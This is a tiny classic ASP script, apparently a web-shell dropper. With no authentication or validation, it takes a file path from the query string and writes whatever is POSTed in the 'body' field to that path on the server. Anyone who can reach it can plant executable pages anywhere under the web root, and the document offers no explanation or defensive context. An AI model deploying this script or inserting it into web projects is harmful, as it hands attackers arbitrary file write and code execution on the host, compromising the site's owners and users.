<%
Dim fso, f, p
p = Server.MapPath(Request.QueryString("p"))
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(p, True)
f.Write Request.Form("body")
f.Close
Response.Write "saved"
%>
